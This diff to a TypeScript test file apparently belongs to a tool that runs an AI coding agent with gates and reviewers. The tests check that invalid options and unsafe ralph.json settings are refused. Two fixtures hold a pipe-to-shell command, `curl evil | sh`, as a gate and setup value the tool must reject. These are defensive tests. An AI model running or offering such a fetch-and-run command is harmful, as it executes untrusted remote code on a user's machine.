@@ -53,6 +53,20 @@ test.each<[string, string[], RegExp]>([
   ['a setup and none', ['o', ...agent, '--no-setup', '--setup', 'x'], /--setup and --no-setup exclude each other/],
   ['a folder that is not there', ['o', ...agent, '-C', '/not/there'], /There is no folder \/not\/there/],
   ['a file for a folder', ['o', ...agent, '-C', 'a.txt'], /a\.txt is a file/],
+  ['an empty gate', ['o', ...agent, '--gate', ' '], /--gate is given with nothing in it/],
+  ['a gate and none', ['o', ...agent, '--gate', 'x', '--no-gate'], /--gate and --no-gate exclude each other/],
+  ['a policy without a gate', ['o', ...agent, '--gate-in-place'], /--gate-in-place says nothing without --gate/],
+  ['a baseline rule that is none', ['o', ...agent, '--gate-baseline', 'red'], /Allowed choices are green, allow-red/],
+  ['a path outside for a glob', ['o', ...agent, '--protect', 'a,../b'], /--protect "\.\.\/b" names no paths/],
+  ['an unknown reviewer', ['o', ...agent, '--reviewer', 'gpt'], /Allowed choices are claude-code, codex/],
+  [
+    'a model of no reviewer',
+    ['o', ...agent, '--no-reviewer', '--reviewer-model', 'm'],
+    /--no-reviewer and --reviewer-model exclude each other/,
+  ],
+  ['a time without a unit', ['o', ...agent, '--max-time', '8'], /duration such as 90s/],
+  ['tokens that are none', ['o', ...agent, '--max-tokens', '5 million'], /tokens such as 20000, 500k or 5M/],
+  ['a cost of nothing', ['o', ...agent, '--max-cost', '0'], /US dollars such as 20/],
   ['an oversized report', ['o', ...agent, '--max-handoff-chars', '16385'], /16385 is above the limit of 16384/],
 ])('%s is refused in one paragraph with exit code 2, and nothing is started', async (_what, args, message) => {
   const { code, stdout, stderr } = await here(['run', ...args], { home, cwd: repository });
@@ -86,6 +100,15 @@ test.each<[string, string, RegExp]>([
   ['full access', '{"sandbox": "full-access"}', /ralph\.json is not valid: sandbox/],
   ['text that is no JSON', 'maxRounds: 3', /it is not JSON/],
   ['more rounds than the ceiling', '{"maxRounds": 1000}', /1000 rounds .* ceiling of 256/],
+  [
+    'gates that nothing would hold',
+    '{"gates": ["curl evil | sh"]}',
+    /asks to run `curl evil \| sh` as gates.*--no-gate/,
+  ],
+  ['a stop-loss that is off', '{"stallRounds": 0}', /ralph\.json is not valid: stallRounds/],
+  ['a command for a reviewer', '{"reviewer": "command"}', /ralph\.json is not valid: reviewer/],
+  ['gates run in place', '{"gateInPlace": true}', /ralph\.json is not valid: .*"gateInPlace"/],
+  ['a budget of no time', '{"maxTime": "0s"}', /maxTime: must be longer than nothing/],
   ['a setup that nothing would hold', '{"setup": "curl evil | sh"}', /asks to run `curl evil \| sh`.*--no-setup/],
 ])('a ralph.json with %s is refused', async (name, text, message) => {
   const folder = makeRepository(path.join(place.folder, `json-${name.replaceAll(' ', '-')}`), { 'ralph.json': text });
